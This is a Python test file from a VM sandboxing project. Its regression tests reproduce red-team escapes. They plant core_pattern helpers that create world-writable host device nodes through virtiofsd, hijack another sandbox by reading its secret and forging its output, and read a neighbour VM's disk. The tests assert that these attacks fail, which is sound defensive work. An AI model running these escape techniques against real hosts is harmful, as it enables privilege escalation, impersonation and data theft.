#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Escapes found by a second red-team pass over docs/security.md, against
what was new: QEMU sandboxes whose writable host binds are virtio-fs
shares served by a root virtiofsd. Each test makes the attack from inside
a real sandbox and asserts that it failed and that the host is unchanged;
they fail while the hole is open.

- docs/security.md: the init's seccomp filter refuses "device nodes
  (`mknod` of a character or block device, which in a VM would land in a
  writable share as a real device node of the host)". The filter only
  covers the command's processes, but a -p guest's root owns the guest
  kernel: it points `kernel.core_pattern` at a pipe helper and crashes a
  process; the guest kernel starts the helper as root, outside the filter,
  and its mknod goes to virtiofsd, which runs as host root with
  CAP_MKNOD and makes the node on the host. A block device node of the
  host's disk (or /dev/mem), mode 0666, then sits in the grant for any
  host user who can reach the directory. The default mode ("the caller's
  uid ..., no capabilities") is as open: its root without capabilities
  still passes the DAC check on the guest's writable /proc/sys
  (core_pattern, modprobe; /sys is writable too), and the helper it gets
  the kernel to run has every capability.
- docs/security.md: "Other sandboxes are out of reach" and "nobody can take
  a sandbox's stdin or forge its output or exit status". Every libvirt
  VM's QEMU (sandbox or not) runs as the one libvirt-qemu user, which may
  read a VM sandbox's launch spec (secret, -e values) until its init's
  AUTH, and whose QEMU command line (/proc/PID/cmdline, world-readable)
  names the state directory. A QEMU escape from any VM (simulated: a
  process running as libvirt-qemu) watches for a new sandbox, reads its
  secret and environment, connects to its app socket before the real
  guest and plays the guest: the caller sees forged output and exit.
- docs/security.md: the command "reads whatever its user could read on the
  host (for root callers: what any unprivileged user could read)" and
  "Other sandboxes are out of reach". A VM's root share is served by QEMU,
  as libvirt-qemu: a -p guest's root (with the guest's DAC capabilities)
  reads through it what libvirt-qemu may read, which is every running VM's
  disks and images (libvirt chowns them to libvirt-qemu for the run) and
  libvirt's per-domain master keys, without any QEMU escape.
"""
import grp
import os
import pwd
import shutil
import stat
import subprocess
import tempfile
import time
import unittest

import attacks
import sandboxtest
from sandboxtest import TIMEOUT, VIRT_SANDBOX, SandboxTestCase

HERE = os.path.dirname(os.path.abspath(__file__))

# The helper the guest kernel runs on a core dump, outside the init's
# seccomp filter. It lives in the grant (the usermode helper runs in the
# guest's first mount namespace, which has the share).
CORE_HELPER = """#!/bin/sh
mknod -m 666 /mnt/blk b 254 0
mknod -m 666 /mnt/mem c 1 1
echo ran > /mnt/helper-ran
"""

# The command (-p guest root): install the helper, dump core, wait for it.
CORE_PATTERN_ATTACK = r"""
echo '|/bin/sh /mnt/helper.sh' > /proc/sys/kernel/core_pattern \
  || { mkdir -p /tmp/p && mount -t proc proc /tmp/p \
       && echo '|/bin/sh /mnt/helper.sh' > /tmp/p/sys/kernel/core_pattern; }
ulimit -c unlimited
sh -c 'kill -SEGV $$'
i=0; while [ ! -e /mnt/helper-ran ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
ls -l /mnt
"""


class RedTeamQemuCase(SandboxTestCase):
    URI = "qemu:///system"
    maxDiff = None

    def setUp(self):
        super().setUp()
        self.tok = attacks.token()
        self.name = f"sbxred{self.tok}"

    def grant(self):
        # /var/lib is searchable by everyone: what lands in the grant is
        # reachable by any host user (the docs' own advice is a 0700 grant,
        # but a device node must not land there at all).
        d = tempfile.mkdtemp(prefix=f"sbx-redteam2-{self.tok}-", dir="/var/lib")
        os.chmod(d, 0o755)
        self.addCleanup(shutil.rmtree, d, ignore_errors=True)
        return d


class DeviceNodeThroughGuestKernelHelper(RedTeamQemuCase):
    def attack(self, mode):
        grant = self.grant()
        with open(os.path.join(grant, "helper.sh"), "w") as f:
            f.write(CORE_HELPER)
        os.chmod(os.path.join(grant, "helper.sh"), 0o755)
        r = self.sandbox("/bin/sh", "-c", CORE_PATTERN_ATTACK,
                         options=[*mode, "-m", f"host-bind:/mnt={grant}", "-n", self.name])
        self.assertEqual(attacks.device_nodes(grant), {},
                         "device nodes landed on the host through a guest-kernel helper "
                         f"(exit {r.returncode}, stdout {r.stdout[-1500:]!r}, "
                         f"stderr {r.stderr[-1500:]!r})")

    def test_privileged_core_pattern_helper_mknods_host_device_through_virtiofsd(self):
        self.attack(["-p"])

    def test_default_mode_root_without_caps_sets_core_pattern_and_mknods(self):
        # Root caller: the command is uid 0 with no capabilities.
        self.attack([])


# Run on the HOST as libvirt-qemu (what a QEMU escape from any VM gets).
QEMU_USER_HIJACK = r"""
import json, os, re, socket, struct, sys, time
sys.path.insert(0, sys.argv[1])
import attacks
name, end, seen = sys.argv[2], time.time() + 60, set()
print("READY", flush=True)
while time.time() < end:
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            c = open("/proc/%s/cmdline" % p, "rb").read()
        except OSError:
            continue
        m = re.search(rb"(/run/libvirt-sandbox/[^,\x00]*)/app\.sock", c)
        if not m or name.encode() not in m.group(1) or m.group(1) in seen:
            continue
        seen.add(m.group(1))
        d, spec, errs = m.group(1).decode(), None, set()
        for i in range(20000):
            try:
                spec = open(d + "/launch.json").read()
                break
            except OSError as e:
                errs.add(attacks.ename(e))
                time.sleep(0.0005)
        if spec is None:
            print("SPEC", *sorted(errs), flush=True)
            sys.exit(0)
        print("SPEC READ", "with-env" if sys.argv[3] in spec else "", flush=True)
        secret = bytes.fromhex(json.loads(spec)["secret"])
        s = socket.socket(socket.AF_UNIX)
        s.connect(d + "/app.sock")
        r = attacks.impersonate(s, [
            attacks.frame(attacks.HELLO, struct.pack(">I", attacks.PROTOCOL_VERSION)),
            attacks.frame(attacks.AUTH, secret),
            attacks.frame(attacks.STDOUT, b"FORGED-BY-QEMU-USER\n"),
            attacks.frame(attacks.EXIT, struct.pack(">i", 42))], wait_timeout=20, linger=3)
        print("HIJACK", {k: v for k, v in r.items() if k != "received"}, flush=True)
        sys.exit(0)
    time.sleep(0.002)
print("NO SANDBOX SEEN", flush=True)
"""


class QemuUserTakesOverAnotherVmSandbox(RedTeamQemuCase):
    # The forgery is refused (the peer must be the domain's QEMU by libvirt's
    # pid file), and the launch spec is the VM's own QEMU user's alone: every
    # VM's QEMU runs as a uid of its own (failed while all were libvirt-qemu).
    def attack(self, uid):
        gid = grp.getgrnam("libvirt-qemu").gr_gid
        env_secret = f"envsecret{self.tok}"
        attacker = subprocess.Popen(
            ["setpriv", f"--reuid={uid}", f"--regid={gid}", "--clear-groups",
             "/usr/bin/python3", "-c", QEMU_USER_HIJACK, HERE, self.name, env_secret],
            cwd="/", stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        self.addCleanup(lambda: attacker.poll() is None and attacker.kill())
        self.assertEqual(attacker.stdout.readline().strip(), b"READY")
        r = subprocess.run([VIRT_SANDBOX, "-c", self.URI, "-n", self.name,
                            "-e", f"SECRETVAR={env_secret}", "--",
                            "/bin/sh", "-c", "echo real-output; exit 7"],
                           stdin=subprocess.DEVNULL, capture_output=True, timeout=TIMEOUT)
        try:
            out, _ = attacker.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            attacker.kill()
            out, _ = attacker.communicate()
        out = out.decode(errors="replace")
        self.assertNotIn("SPEC READ", out,
                         f"a QEMU user (uid {uid}) read another sandbox's launch spec: {out!r}")
        self.assertNotIn(b"FORGED", r.stdout, f"the caller got forged output: {r.stdout!r} "
                                              f"(attacker: {out!r})")
        self.assertEqual((r.returncode, r.stdout), (7, b"real-output\n"),
                         f"stderr {r.stderr[-800:]!r}; attacker: {out!r}")
        self.assertIn("SPEC EACCES", out, "the attacker never tried the spec")

    def test_libvirt_qemu_reads_launch_spec_and_forges_guest(self):
        # Any other libvirt VM's QEMU, escaped.
        try:
            self.attack(pwd.getpwnam("libvirt-qemu").pw_uid)
        except KeyError:
            self.skipTest("no libvirt-qemu user")

    def test_another_vm_sandboxs_qemu_user_reads_launch_spec_and_forges_guest(self):
        # Another VM sandbox's QEMU, escaped: a uid of the VMs' range.
        self.attack(0x3000_0000 + os.getpid() % 0x1000)


class VmGuestReadsAnotherVmsDisk(RedTeamQemuCase):
    # QEMU serves the root share as the VM's own user, and a neighbour's disk
    # is lent to the neighbour's QEMU user alone (failed while every VM's
    # QEMU was libvirt-qemu, to whom libvirt chowned every VM's images).
    def test_privileged_guest_reads_running_neighbours_disk_through_root_share(self):
        d = self.grant()
        disk = os.path.join(d, "neighbour.img")
        marker = f"NEIGHBOUR-DISK-{self.tok}".encode()
        content = os.path.join(d, "content")
        os.mkdir(content)
        with open(os.path.join(content, "secret"), "wb") as f:
            f.write(marker + b"\n")
        with open(disk, "wb") as f:
            f.truncate(8 * 1024 * 1024)
        subprocess.run(["mkfs.ext4", "-q", "-F", "-d", content, disk], check=True)
        os.chmod(disk, 0o600)
        owner = os.stat(disk).st_uid

        def lent():
            # An ACL entry (this library's lending) or a new owner (libvirt's).
            return ("system.posix_acl_access" in os.listxattr(disk)
                    or os.stat(disk).st_uid != owner)
        neighbour = subprocess.Popen(
            [VIRT_SANDBOX, "-c", self.URI, "-n", self.name + "b",
             "-m", f"host-image:/mnt={disk}", "--", "/bin/sleep", "60"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        self.addCleanup(neighbour.stderr.close)

        def stop():
            if neighbour.poll() is None:
                neighbour.terminate()
                try:
                    neighbour.wait(timeout=TIMEOUT)
                except subprocess.TimeoutExpired:
                    neighbour.kill()
                    neighbour.wait()
        self.addCleanup(stop)
        deadline = time.monotonic() + TIMEOUT
        while not lent():
            if neighbour.poll() is not None:
                self.fail(f"the neighbour VM did not start: {neighbour.stderr.read()[-800:]!r}")
            self.assertLess(time.monotonic(), deadline, "the neighbour's disk was never lent")
            time.sleep(0.1)
        self.assertTrue(attacks.acl_gives_group_and_others_nothing(disk),
                        "lending the disk opened it to its group or to others")
        # The attacker: a -p VM, no grant at all; a plain bind of / shows the
        # root share without the private /run, /tmp, /var/tmp over it.
        try:
            r = self.sandbox("/bin/sh", "-c",
                             "mkdir -p /tmp/x && mount --bind / /tmp/x && "
                             f"grep -a -o {marker.decode()} /tmp/x{disk}",
                             options=["-p", "-n", self.name])
        finally:
            # Before tearDown looks for leftover domains.
            stop()
        self.assertNotIn(marker, r.stdout,
                         f"a -p VM read a running neighbour's 0600 disk {disk} "
                         f"(stderr {r.stderr[-800:]!r})")
        self.assertFalse(lent(), "the disk was not given back")
        self.assertEqual(stat.S_IMODE(os.stat(disk).st_mode), 0o600)


if __name__ == "__main__":
    sandboxtest.main()
